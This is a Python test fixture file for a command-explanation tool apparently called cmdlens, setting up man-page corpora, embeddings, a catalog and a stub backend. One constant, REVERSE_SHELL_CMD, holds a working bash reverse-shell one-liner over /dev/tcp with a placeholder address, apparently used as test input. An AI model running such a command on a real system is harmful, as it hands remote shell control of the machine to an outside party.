from __future__ import annotations

import sys
from importlib import resources
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from cmdlens.doccorpus import ChunkRule, ingest_man_dir
from cmdlens.embedding import OfflineEmbedder
from cmdlens.explain import ExplainDeps, PipelineConfig, StubBackend
from cmdlens.intent import load_catalog
from cmdlens.prompts import builtin_template_set
from cmdlens.retrieval import build_index

DATA_DIR = Path(__file__).parent / "data"

REVERSE_SHELL_CMD = "bash -c '0<&137-;exec 137<>/dev/tcp/ip_addr/port;sh <&137 >&137 2>&137'"


@pytest.fixture(scope="session")
def man_dir() -> Path:
    return DATA_DIR / "man_pages"


@pytest.fixture(scope="session")
def corpus(man_dir):
    docs, chunks = ingest_man_dir(man_dir, ChunkRule.words(200))
    return docs, chunks


@pytest.fixture(scope="session")
def provider():
    return OfflineEmbedder(dim=512, seed=0)


@pytest.fixture(scope="session")
def catalog_path(tmp_path_factory) -> Path:
    src = resources.files("cmdlens.data").joinpath("catalog.json")
    dst = tmp_path_factory.mktemp("catalog") / "catalog.json"
    dst.write_text(src.read_text(encoding="utf-8"), encoding="utf-8")
    return dst


@pytest.fixture(scope="session")
def catalog(catalog_path):
    return load_catalog(catalog_path)


@pytest.fixture(scope="session")
def template_set():
    return builtin_template_set()


@pytest.fixture(scope="session")
def index(corpus, provider):
    _, chunks = corpus
    return build_index(chunks, provider)


@pytest.fixture()
def deps(catalog, provider, template_set, index):
    return ExplainDeps(catalog=catalog, provider=provider,
                       backend=StubBackend(template_set=template_set),
                       template_set=template_set, index=index,
                       cfg=PipelineConfig())
